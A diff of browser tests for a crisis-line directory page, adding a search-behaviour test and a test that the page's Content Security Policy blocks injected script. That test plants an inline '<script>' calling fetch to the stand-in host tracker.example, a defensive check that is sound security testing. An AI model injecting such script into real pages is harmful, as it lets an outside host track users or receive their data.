@@ -19,7 +19,7 @@ import pytest
 
 from adapters.web.directory_html import DirectoryHtml
 from bots.bootstrap import Services
-from bots.site import directory_page
+from bots.site import directory_html, directory_page
 
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 ROOT = Path(__file__).resolve().parents[2]
@@ -95,6 +95,31 @@ async def test_search_as_you_type_narrows_the_list_below_the_crisis_lines(
     assert await _visible_ids(page) == everything
 
 
+async def test_a_word_only_a_crisis_line_answers_says_so(
+    browser: Any, tmp_path: Path, services: Services
+) -> None:
+    path = tmp_path / "index.html"  # the national directory alone: no agency file
+    path.write_text(directory_html(services.bundle, services.lookup), encoding="utf-8")
+    page = await _open(browser, path)
+    await page.fill("#q", "divorce")  # Copline's: the chat answers it with Copline alone
+    assert await _visible_ids(page) == ["lifeline-988", "copline", "crisis-text-line"]
+    assert "crisis lines above are the match" in await page.inner_text("#status")
+
+
+async def test_only_the_pages_own_script_and_style_run(browser: Any, page_file: Path) -> None:
+    slipped = '<script>document.title = "ran"; fetch("https://tracker.example/?q=x")</script>'
+    html = page_file.read_text(encoding="utf-8")
+    page_file.write_text(html.replace("</footer>", f"</footer>{slipped}"), encoding="utf-8")
+    page = await _open(browser, page_file)
+    blocked: list[str] = []
+    page.on("console", lambda message: blocked.append(message.text))
+    await page.reload()
+    assert await page.title() != "ran"
+    assert any("Content Security Policy" in text for text in blocked)
+    assert await page.is_visible("#q")  # the page's own script ran: the search is there
+    assert await page.eval_on_selector("h1", "h => getComputedStyle(h).fontWeight") == "700"
+
+
 async def test_without_javascript_everything_is_listed(browser: Any, page_file: Path) -> None:
     page = await _open(browser, page_file, java_script_enabled=False)
     assert len(await _visible_ids(page)) > 20
@@ -122,7 +147,7 @@ async def test_the_keyboard_reaches_every_link(browser: Any, page_file: Path) ->
 
 
 async def test_axe_finds_nothing_serious(browser: Any, page_file: Path) -> None:
-    page = await _open(browser, page_file)
+    page = await _open(browser, page_file, bypass_csp=True)  # to add axe itself
     await page.add_script_tag(path=str(AXE))
     result = await page.evaluate(
         "axe.run(document, {runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']})"
